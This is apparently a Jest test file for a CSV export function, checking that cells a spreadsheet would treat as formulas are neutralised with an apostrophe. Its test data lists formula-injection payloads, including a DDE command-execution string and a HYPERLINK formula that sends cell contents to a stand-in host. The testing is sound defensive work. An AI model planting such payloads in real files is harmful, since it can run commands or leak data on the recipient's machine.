/** A table as CSV: read again it says what was written, and no cell of it begins as a formula does. */
import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { toCsv } from '../../../../tab/api/files/to-csv.ts';

const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example?"&A1,"Please press")',
  '+1',
  '-2+3',
  '- a line of a list',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(A1)',
  '−1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000@SUM(A1)',
];

const words = [
  'Duty workers sign off food vouchers themselves',
  'They said: "yes", twice',
  'One line\nand another\r\nand a third',
  'Monday, Tuesday; Wednesday\tThursday',
  'A hug 🤗 before the visit 👩‍👧',
  'Siarad Cymraeg â’r tŷ, ŵyna, ïon',
  "'quoted already'",
  'a=b, 1+1 and a@b stay as they are',
  ' ',
  'الزيارة المنزلية',
];

/** As a spreadsheet reads it: UTF-8 by its mark, lines ended as the standard says. */
async function readAgain(...cells: readonly string[]): Promise<readonly string[]> {
  const csv = await toCsv({ heads: cells.map((_, at) => `Column ${at}`), rows: [cells] });
  const [, row] = parse(csv, { bom: true, record_delimiter: '\r\n' }) as string[][];
  return row ?? [];
}

describe('what a spreadsheet would take for a formula', () => {
  test.each(formulas)('%j is read again with an apostrophe before it', async (formula) => {
    expect(await readAgain(formula, 'after')).toEqual([`'${formula}`, 'after']);
  });

  test('is made harmless in the heads as well', async () => {
    expect(await toCsv({ heads: ['=1+1'], rows: [] })).toBe('\ufeff"\'=1+1"\r\n');
  });
});

test.each(words)('%j is read again as it was written', async (said) => {
  expect(await readAgain(said, 'after')).toEqual([said, 'after']);
});

test('whatever is written is read again, with one apostrophe at most before it', async () => {
  const beginning = fc.constantFrom(...'=+-@\t\r\n"\';,＝ \u200b'.split(''), '');
  const cell = fc
    .tuple(beginning, beginning, fc.string({ unit: 'grapheme' }))
    .map((parts) => parts.join(''));

  await fc.assert(
    fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 4 }), async (cells) => {
      const row = await readAgain(...cells, 'after');

      expect(row).toHaveLength(cells.length + 1);
      for (const [at, said] of cells.entries()) {
        expect([said, `'${said}`]).toContain(row[at]);
        expect(row[at]).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      }
    }),
  );
});

test('is UTF-8 with its mark, every line ended by carriage return and line feed, words quoted', async () => {
  const csv = await toCsv({
    heads: ['Id', 'Minutes'],
    rows: [
      ['SC-1', 30],
      ['', null],
    ],
  });

  expect(Buffer.from(csv).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(csv.slice(1)).toBe('"Id","Minutes"\r\n"SC-1",30\r\n"",\r\n');
});
